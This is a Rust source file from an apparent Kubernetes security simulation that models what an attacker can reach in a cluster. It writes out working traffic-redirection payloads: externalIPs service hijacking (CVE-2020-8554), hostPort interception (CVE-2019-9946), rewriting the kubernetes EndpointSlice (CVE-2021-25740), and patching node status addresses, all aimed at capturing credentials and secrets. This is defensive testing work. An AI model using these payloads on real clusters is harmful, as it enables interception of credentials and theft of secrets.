//! A running cluster in a simulation, and what an attacker may know of each path in it.

use crate::holdings;
use ravelin_adversary::{
    Ask, Attacker, Claim, ClientProof, Holdings, NodeAt, ServerKind, Speaks, Target, TokenShape, Transport,
};
use ravelin_client::{Client, Credential};
use ravelin_cluster::{Cluster, Demo, DemoPod, PortAt, TENANT_NAMESPACE, WEB_HTTP_PORT, WEB_HTTPS_PORT, Who};
use ravelin_pki::{San, Subject};
use ravelin_sim::World;
use serde_json::json;
use std::collections::BTreeSet;
use std::net::{IpAddr, SocketAddr};

/// At most this many nodes are probed one by one; the others only take part.
const MAX_PROBED_NODES: usize = 5;

/// A booted cluster and the world it runs in.
pub struct Stage {
    /// The simulated world.
    pub world: World,
    /// The cluster.
    pub cluster: Cluster,
    /// What the attacker holds before it begins.
    pub holdings: Holdings,
    /// Tokens of the probes' service accounts that the attacker holds and that are not good here.
    stale: Vec<holdings::StaleToken>,
}

impl Stage {
    /// A booted cluster, and an attacker who has what is its.
    ///
    /// # Errors
    /// Why the cluster has not what the attacker should hold.
    pub async fn new(world: World, cluster: Cluster, attacker: Attacker) -> Result<Self, String> {
        let holdings = holdings::of(&world, &cluster, attacker)?;
        let stale = holdings::stale_tokens(&cluster, attacker).await;
        Ok(Self { world, cluster, holdings, stale })
    }

    /// The nodes that probes use: those that are not the attacker's, and not too many.
    fn probed_nodes(&self) -> Vec<usize> {
        self.cluster.layout().honest().into_iter().take(MAX_PROBED_NODES).collect()
    }

    /// A demo pod on each probed node.
    ///
    /// # Errors
    /// Why one of them does not run, in a sentence.
    pub fn pods(&self, demo: Demo) -> Result<Vec<DemoPod>, String> {
        self.probed_nodes().into_iter().map(|node| self.cluster.pod(demo, node)).collect()
    }

    /// Every demo pod of a kind that runs: behind a service, any of them may answer.
    pub fn all_pods(&self, demo: Demo) -> Vec<DemoPod> {
        let honest = self.cluster.layout().honest().into_iter();
        honest.filter_map(|node| self.cluster.pod(demo, node).ok()).collect()
    }

    fn base(&self) -> Target {
        let cluster = &self.cluster;
        let (members, port) = (cluster.layout().members(), cluster.kubelet_port());
        let honest = cluster.layout().honest().into_iter().map(|node| members[node].machine.address);
        Target {
            transport: Transport::Direct,
            servers: BTreeSet::new(),
            speaks: Speaks::Https,
            plain: BTreeSet::new(),
            server: ServerKind::Apiserver,
            names: Vec::new(),
            authority: cluster.authority_name().to_owned(),
            proof: ClientProof::Nothing,
            client: Subject::default(),
            asks: Vec::new(),
            reads: Vec::new(),
            treasures: Vec::new(),
            is_asked_directly: false,
            claims: Vec::new(),
            host_ports: Vec::new(),
            nodes: self.other_nodes(),
            token: TokenShape::None,
            stale: Vec::new(),
            elsewhere: None,
            apiserver: cluster.apiserver_address(),
            apiserver_ask: Ask::get("/api/v1/secrets", "every secret"),
            kubelets: honest.map(|address| SocketAddr::new(address, port)).collect(),
            ends: (BTreeSet::new(), BTreeSet::new()),
        }
    }

    /// A path to the apiserver, as its attackers know it.
    pub fn apiserver_target(&self, who: Who, client: &Client, ask: Ask) -> Target {
        let cluster = &self.cluster;
        let proof = match &client.config().credential {
            Credential::Certificate(identity) => ClientProof::Certificate(identity.chain.clone()),
            Credential::Token(_) => ClientProof::Token,
            Credential::Anonymous => ClientProof::Nothing,
        };
        // A token that cannot be read has no shape to imitate.
        let token = match &client.config().credential {
            Credential::Token(source) => source.reveal(client.host().disk()).ok(),
            _ => None,
        };
        let account = cluster.subject(who).common_name;
        let stale = self.stale.iter().filter(|stale| stale.account == account);
        Target {
            servers: BTreeSet::from([cluster.apiserver_address()]),
            names: cluster.apiserver_names(),
            proof,
            token: token.map_or(TokenShape::None, |token| TokenShape::of(&token)),
            stale: stale.map(|stale| (stale.why, stale.token.clone())).collect(),
            client: cluster.subject(who),
            asks: vec![ask.clone()],
            apiserver_ask: ask,
            claims: match who {
                Who::Node(_) | Who::Proxy(_) => {
                    vec![claim_of_external_address(cluster.apiserver_address())]
                }
                Who::Pod(_) => vec![claim_of_kubernetes_endpoints(cluster.apiserver_address())],
                _ => Vec::new(),
            },
            host_ports: match who {
                Who::Pod(node) => vec![claim_of_service_port(cluster, node)],
                _ => Vec::new(),
            },
            ends: (
                client.host().addresses().into_iter().collect(),
                BTreeSet::from([cluster.apiserver_address().ip()]),
            ),
            ..self.base()
        }
    }

    /// The way to kubelets.
    pub fn kubelet_target(&self, pods: &[DemoPod], asks: Vec<Ask>) -> Target {
        let cluster = &self.cluster;
        let nodes: BTreeSet<IpAddr> = pods.iter().map(|pod| pod.node_address).collect();
        let proof = match cluster.kubelet_client() {
            Some(identity) => ClientProof::Certificate(identity.chain.clone()),
            None => ClientProof::Nothing,
        };
        let servers = nodes.iter().map(|node| SocketAddr::new(*node, cluster.kubelet_port()));
        let mut names: Vec<San> = nodes.iter().copied().map(San::Ip).collect();
        names.extend(pods.iter().map(|pod| San::Dns(pod.node.clone())));
        Target {
            transport: self.transport(),
            servers: servers.collect(),
            server: ServerKind::Kubelet,
            names,
            authority: cluster.kubelet_authority_name().to_owned(),
            proof,
            client: cluster.kubelet_client_subject(),
            asks,
            claims: pods.iter().map(claim_of_node).collect(),
            ends: self.egress_ends(&nodes),
            ..self.base()
        }
    }

    /// The way to servers in pods, or on nodes.
    pub fn workload_target(&self, pods: &[DemoPod], secure: bool) -> Target {
        let port = if secure { WEB_HTTPS_PORT } else { WEB_HTTP_PORT };
        let addresses: BTreeSet<IpAddr> = pods.iter().map(|pod| pod.address).collect();
        Target {
            transport: self.transport(),
            servers: addresses.iter().map(|address| SocketAddr::new(*address, port)).collect(),
            speaks: if secure { Speaks::Https } else { Speaks::Http },
            server: ServerKind::Workload,
            names: addresses.iter().copied().map(San::Ip).collect(),
            claims: pods.iter().map(claim_of_pod).collect(),
            ends: self.egress_ends(&addresses),
            ..self.base()
        }
    }

    /// Ports that the attacker itself asks.
    pub fn direct_target(&self, ports: &[PortAt], server: ServerKind, (asks, treasures): Asked) -> Target {
        let servers: BTreeSet<SocketAddr> = ports.iter().map(|port| port.address).collect();
        let plain = ports.iter().filter(|port| !port.tls).map(|port| port.address);
        let review = json!({"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"});
        let own = self.holdings.address().into_iter().collect();
        Target {
            ends: (own, servers.iter().map(SocketAddr::ip).collect()),
            servers,
            plain: plain.collect(),
            server,
            asks,
            treasures,
            is_asked_directly: true,
            apiserver_ask: Ask::post(
                "/apis/authentication.k8s.io/v1/selfsubjectreviews",
                Some(&review),
                "the name of another",
            ),
            ..self.base()
        }
    }

    /// The nodes that are not the attacker's.
    fn other_nodes(&self) -> Vec<NodeAt> {
        let members = self.cluster.layout().members();
        let machines = self.cluster.layout().honest().into_iter().map(|node| &members[node].machine);
        machines.map(|node| NodeAt { name: node.name.clone(), address: node.address }).collect()
    }

    /// The addresses that the attacker speaks from.
    pub fn attackers_addresses(&self) -> BTreeSet<IpAddr> {
        self.holdings.address().into_iter().collect()
    }
}

/// What is asked, and what of it would give a credential away.
pub type Asked = (Vec<Ask>, Vec<Ask>);

/// Where the apiserver looks for a node.
fn claim_of_node(pod: &DemoPod) -> Claim {
    let addresses = |address: &str| {
        json!({"status": {"addresses": [
            {"type": "InternalIP", "address": address},
            {"type": "Hostname", "address": address},
        ]}})
    };
    let back = json!({"status": {"addresses": [
        {"type": "InternalIP", "address": pod.node_address},
        {"type": "Hostname", "address": pod.node},
    ]}});
    let path = format!("/api/v1/nodes/{}/status", pod.node);
    Claim::patch(format!("the address of {}", pod.node), &path, (&addresses(Claim::HERE), &back))
}

/// Where the apiserver looks for a pod; one on the node's own network is looked for on the node.
fn claim_of_pod(pod: &DemoPod) -> Claim {
    if pod.address == pod.node_address {
        return claim_of_node(pod);
    }
    let addresses = |address: &str| json!({"status": {"podIP": address, "podIPs": [{"ip": address}]}});
    let path = format!("/api/v1/namespaces/{}/pods/{}/status", pod.namespace, pod.name);
    let back = addresses(&pod.address.to_string());
    Claim::patch(format!("the address of {}", pod.name), &path, (&addresses(Claim::HERE), &back))
}

/// Where nodes find the apiserver's own address: at whatever service claims it as an external one
/// (CVE-2020-8554). The service has no selector; its endpoints are written by hand.
fn claim_of_external_address(apiserver: SocketAddr) -> Claim {
    const NAMESPACE: &str = TENANT_NAMESPACE;
    let name = "claims-the-apiserver";
    let metadata = json!({"name": name, "namespace": NAMESPACE});
    let port = apiserver.port();
    let service = json!({
        "apiVersion": "v1", "kind": "Service", "metadata": metadata,
        "spec": {"externalIPs": [apiserver.ip()], "ports": [{"name": "https", "port": port, "protocol": "TCP"}]},
    });
    let slice = json!({
        "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice",
        "metadata": {"name": name, "namespace": NAMESPACE, "labels": {"kubernetes.io/service-name": name}},
        "addressType": "IPv4",
        "endpoints": [{"addresses": [Claim::HERE], "conditions": {"ready": true}}],
        "ports": [{"name": "https", "port": port, "protocol": "TCP"}],
    });
    let services = format!("/api/v1/namespaces/{NAMESPACE}/services");
    let slices = format!("/apis/discovery.k8s.io/v1/namespaces/{NAMESPACE}/endpointslices");
    let what = "a service at the apiserver's address";
    Claim {
        what: what.to_owned(),
        make: vec![Ask::post(&services, Some(&service), what), Ask::post(&slices, Some(&slice), what)],
        undo: vec![
            Ask::delete(&format!("{slices}/{name}"), what),
            Ask::delete(&format!("{services}/{name}"), what),
        ],
    }
}

/// Where the pods of a node find what is addressed to port 443: at a pod of that node that has it as a
/// host port, if that comes before services (CVE-2019-9946). It passes on what it gets.
fn claim_of_service_port(cluster: &Cluster, node: usize) -> Claim {
    const NAMESPACE: &str = TENANT_NAMESPACE;
    let name = "claims-the-service";
    let target = format!("{}:{}", Claim::HERE, cluster.apiserver_address().port());
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": NAMESPACE},
        "spec": {
            "nodeName": cluster.node_name(node),
            "containers": [{
                "name": "main", "image": "ravelin.test/forward",
                "env": [{"name": "TARGET", "value": target}],
                "ports": [{"containerPort": 8443, "hostPort": 443, "protocol": "TCP"}],
            }],
        },
    });
    let pods = format!("/api/v1/namespaces/{NAMESPACE}/pods");
    let what = "a pod with the port of the kubernetes service";
    Claim {
        what: what.to_owned(),
        make: vec![Ask::post(&pods, Some(&pod), what)],
        undo: vec![Ask::delete(&format!("{pods}/{name}?gracePeriodSeconds=0"), what)],
    }
}

/// Where pods find the apiserver behind the `kubernetes` service: at the endpoints that whoever may
/// write them says (CVE-2021-25740).
fn claim_of_kubernetes_endpoints(apiserver: SocketAddr) -> Claim {
    let endpoints =
        |address: &str| json!({"endpoints": [{"addresses": [address], "conditions": {"ready": true}}]});
    let path = "/apis/discovery.k8s.io/v1/namespaces/default/endpointslices/kubernetes";
    let back = endpoints(&apiserver.ip().to_string());
    let what = "the endpoints of the kubernetes service".to_owned();
    Claim::patch(what, path, (&endpoints(Claim::HERE), &back))
}
